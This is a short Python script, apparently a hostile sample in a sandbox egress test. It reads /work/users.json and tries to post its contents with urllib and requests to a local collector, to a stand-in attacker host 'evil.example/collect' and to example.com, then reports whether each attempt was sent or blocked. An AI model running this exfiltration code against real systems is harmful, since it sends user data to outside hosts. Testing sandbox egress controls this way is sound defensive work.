# sbx-corpus: hostile
import urllib.error
import urllib.request

import requests

data = open("/work/users.json", "rb").read()
for url in ("http://127.0.0.1:8998/collect", "http://evil.example/collect", "https://example.com/x"):
    try:
        urllib.request.urlopen(url, data=data, timeout=5)
        print("SENT", url)
    except urllib.error.URLError as e:
        print("blocked urllib", "egress_denied" in str(e.reason))
    try:
        requests.post(url, data=data, timeout=5)
        print("SENT", url)
    except requests.exceptions.ConnectionError as e:
        print("blocked requests", "egress_denied" in str(e))
